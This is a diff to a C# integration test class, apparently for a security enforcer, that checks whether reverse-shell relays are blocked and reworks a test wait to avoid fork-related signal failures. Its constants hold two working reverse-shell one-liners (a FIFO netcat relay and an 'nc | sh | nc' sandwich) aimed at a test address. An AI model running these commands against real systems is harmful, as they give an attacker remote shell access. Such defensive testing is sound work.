@@ -13,6 +13,15 @@ namespace MicroEnforcer.IntegrationTests.Controls;
 /// </summary>
 public sealed class ReverseShellRelayTests(ITestOutputHelper output)
 {
+    // Waits 4 s with a builtin on a FIFO nobody writes, not by forking sleep: the attack and the
+    // listener end together, and a SIGCHLD landing while the shell enters a notified fork fails
+    // that fork with EINTR, which ends a non-interactive busybox sh (docs/limits.md, "Signals
+    // and notified calls"). What these tests check happens before; the wait must not be at risk.
+    private const string WaitWithoutForking = "exec 9<>/tmp/.wait; read -t 4 x <&9; ";
+
+    // The FIFO the wait reads, made first, while nothing can end.
+    private const string MakeWaitFifo = "mkfifo /tmp/.wait; ";
+
     private const string Alive = "SHELL-ALIVE-42";
     private const string Remote = "10.99.0.1";
     private const string AddRemote = "ip addr add 10.99.0.1/32 dev lo; ";
@@ -20,15 +29,15 @@ public sealed class ReverseShellRelayTests(ITestOutputHelper output)
     // One listener that sends the command and keeps what comes back; the attack; what it got.
     private static string WithListener(string attack) =>
         AddRemote +
-        "(echo 'echo SHELL-ALIVE-$((6*7))'; sleep 3) | nc -l -p 4444 > /tmp/received 2>/dev/null & " +
-        $"sleep 0.5; {attack}; echo \"rc=$?\"; sleep 3.5; echo received:; cat /tmp/received";
+        MakeWaitFifo + "(echo 'echo SHELL-ALIVE-$((6*7))'; sleep 3) | nc -l -p 4444 > /tmp/received 2>/dev/null & " +
+        $"sleep 0.5; {attack}; echo \"rc=$?\"; " + WaitWithoutForking + "echo received:; cat /tmp/received";
 
     // Two listeners: commands from 4444, output to 4445 (nc | sh | nc).
     private static string WithTwoListeners(string attack) =>
         AddRemote +
-        "(echo 'echo SHELL-ALIVE-$((6*7))'; sleep 3) | nc -l -p 4444 > /dev/null 2>&1 & " +
+        MakeWaitFifo + "(echo 'echo SHELL-ALIVE-$((6*7))'; sleep 3) | nc -l -p 4444 > /dev/null 2>&1 & " +
         "sleep 30 | nc -l -p 4445 > /tmp/received 2>/dev/null & " +
-        $"sleep 0.5; {attack}; echo \"rc=$?\"; sleep 3.5; echo received:; cat /tmp/received";
+        $"sleep 0.5; {attack}; echo \"rc=$?\"; " + WaitWithoutForking + "echo received:; cat /tmp/received";
 
     private const string FifoRelay = "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | timeout 4 nc 10.99.0.1 4444 > /tmp/f";
     private const string NcSandwich = "timeout 4 nc 10.99.0.1 4444 | /bin/sh | timeout 4 nc 10.99.0.1 4445";
